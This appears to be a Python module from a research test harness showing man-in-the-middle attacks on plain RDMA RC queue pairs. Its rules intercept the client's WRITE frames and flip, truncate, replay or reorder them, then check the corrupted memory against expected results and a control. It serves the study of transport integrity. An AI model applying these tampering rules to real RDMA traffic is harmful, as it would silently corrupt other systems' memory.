"""Rules of a man in the middle of plain RC QPs: what becomes of the WRITEs of the left host."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from srdma_attack.against_plain.cable import LEFT
from srdma_attack.against_plain.frames import Frame

WRITE_ONLY = 0x0A
SIZE = 64  # bytes of a WRITE
ELSEWHERE = 1024  # offset of memory that is not under attack
OLD, NEW, OTHER = (bytes([n]) * SIZE for n in (1, 2, 3))


class Writes:
    """The rule that passes all frames. WRITEs of the client go through change()."""

    def __init__(self) -> None:
        self.seen: list[Frame] = []

    def __call__(self, side: int, data: bytes) -> Iterable[bytes]:
        frame = Frame.parse(data) if side == LEFT else None
        if frame is None or frame.opcode != WRITE_ONLY:
            return [data]
        self.seen.append(frame)
        return [changed.build() for changed in self.change(frame)]

    def change(self, frame: Frame) -> Iterable[Frame]:
        return [frame]


class Flip(Writes):
    """Inverts the last byte."""

    def change(self, frame: Frame) -> Iterable[Frame]:
        return [frame.with_payload(frame.payload[:-1] + bytes([frame.payload[-1] ^ 0xFF]))]


class Truncate(Writes):
    """Cuts the second half."""

    def change(self, frame: Frame) -> Iterable[Frame]:
        return [frame.with_payload(frame.payload[: len(frame.payload) // 2])]


class Replay(Writes):
    """Sends the first WRITE again in place of the third one."""

    def change(self, frame: Frame) -> Iterable[Frame]:
        return [self.seen[0].with_number_of(frame) if len(self.seen) == 3 else frame]


class Reorder(Writes):
    """Exchanges the first WRITE and the second."""

    def change(self, frame: Frame) -> Iterable[Frame]:
        first = self.seen[0]
        if frame is first:
            return []
        if len(self.seen) > 2:  # sent again
            return [frame]
        return [frame.with_number_of(first), first.with_number_of(frame)]


# --- attacks ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """WRITEs of these bytes at these offsets. together: they are posted at once. wanted: the bytes
    at offset 0 if the attack succeeded."""

    rule: type[Writes]
    writes: Sequence[tuple[bytes, int]]
    wanted: bytes
    together: bool = False


FLIPPED, CUT = NEW[:-1] + bytes([NEW[-1] ^ 0xFF]), NEW[: SIZE // 2] + bytes(SIZE // 2)
CASES = {
    "flip": Case(Flip, [(NEW, 0)], FLIPPED),
    "truncate": Case(Truncate, [(NEW, 0)], CUT),
    "replay": Case(Replay, [(OLD, 0), (NEW, 0), (OTHER, ELSEWHERE)], OLD),
    "reorder": Case(Reorder, [(OLD, 0), (NEW, 0)], OLD, together=True),
}
CONTROL = Case(Writes, [(NEW, 0), (OTHER, ELSEWHERE)], NEW)


class InTurn(Writes):
    """The rules of CASES and CONTROL in turn, one for each QP of the right host that gets WRITEs.
    Then all frames pass as they are."""

    def __init__(self) -> None:
        super().__init__()
        self._cases = [*CASES.values(), CONTROL]
        self._of: dict[int, Writes] = {}

    @property
    def done(self) -> bool:
        """True once all WRITEs of the control have passed."""
        last = list(self._of.values())[-1:]
        return len(self._of) == len(self._cases) and len(last[0].seen) == len(CONTROL.writes)

    def __call__(self, side: int, data: bytes) -> Iterable[bytes]:
        return [data] if self.done else super().__call__(side, data)

    def change(self, frame: Frame) -> Iterable[Frame]:
        if frame.target not in self._of:
            self._of[frame.target] = self._cases[len(self._of)].rule()
        rule = self._of[frame.target]
        rule.seen.append(frame)
        return rule.change(frame)
